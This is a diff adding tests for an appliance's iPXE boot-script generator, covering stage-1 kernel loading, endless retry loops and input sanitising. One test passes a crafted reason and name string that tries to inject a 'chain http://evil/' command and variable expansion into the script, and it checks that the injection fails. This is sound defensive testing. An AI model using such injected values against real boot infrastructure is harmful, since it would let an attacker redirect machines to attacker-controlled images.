@@ -8,9 +8,12 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from appliance.boot.script import (
+    DISCOVER_PAUSE,
+    DISCOVER_TRIES,
     SCREEN_LIMIT,
     autoexec_script,
     base_url,
+    discover_script,
     own_disk_script,
     screen_text,
     script_path,
@@ -101,3 +104,59 @@ def test_addresses_name_the_port_only_where_it_is_another() -> None:
     assert base_url(BRIDGE) == "http://10.20.0.2"
     assert base_url(BRIDGE, 8080) == "http://10.20.0.2:8080"
     assert script_path(HV1) == "/m/525400000001.ipxe"
+
+
+def discover(reason: str = "its disk is to be found", name: str = "hv2") -> str:
+    """Give a script that starts stage-1."""
+    return discover_script(
+        mac=HV1,
+        name=name,
+        reason=reason,
+        base="http://10.20.0.2",
+        script_url="http://10.20.0.2/m/525400000001.ipxe",
+        console=("ttyS0,115200n8", "tty1"),
+    )
+
+
+def test_the_discover_script_starts_stage1() -> None:
+    """With the bridge and the card that booted: stage-1 need not guess either."""
+    lines = discover().splitlines()
+
+    assert lines[0] == "#!ipxe"
+    arguments = (
+        "initrd=stage1-amd64.initrd bridgehead=http://10.20.0.2 BOOTIF=01-${netX/mac:hexhyp} "
+        "console=ttyS0,115200n8 console=tty1"
+    )
+    files = [each for each in lines if each.startswith(("kernel", "initrd", "imgargs", "boot"))]
+    assert files == [
+        "kernel http://10.20.0.2/a/stage1-amd64.vmlinuz || goto again",
+        "initrd http://10.20.0.2/a/stage1-amd64.initrd || goto again",
+        f"imgargs stage1-amd64.vmlinuz {arguments} || goto again",
+        "boot || goto again",
+    ]
+    for part in ("hv2", "52:54:00:00:00:01", "its disk is to be found"):
+        assert part in discover()
+
+
+def test_the_discover_script_never_ends() -> None:
+    """Each failure leads to another round, which drops what was fetched, or asks what to do."""
+    lines = discover().splitlines()
+    labels = {each[1:] for each in lines if each.startswith(":")}
+    targets = [each.split("goto ")[1].split()[0] for each in lines if "goto " in each]
+
+    assert set(targets) <= labels
+    assert lines.index("imgfree") == lines.index(":fetch") + 1
+    assert DISCOVER_TRIES * DISCOVER_PAUSE >= 100
+    assert "chain --replace http://10.20.0.2/m/525400000001.ipxe || goto network" in lines
+    assert lines[-1] == "goto anew"
+    assert not {"exit", "shell", "reboot"} & set(lines)
+
+
+def test_nothing_from_outside_enters_the_discover_script() -> None:
+    """A reason is a text on the screen."""
+    evil = "x\nchain http://evil/ || ${net0/mac} ; boot"
+    script = discover(reason=evil, name=evil)
+
+    assert script.count("\n") == discover().count("\n")
+    assert script.count("${") == discover().count("${")
+    assert "\nchain http://evil" not in script
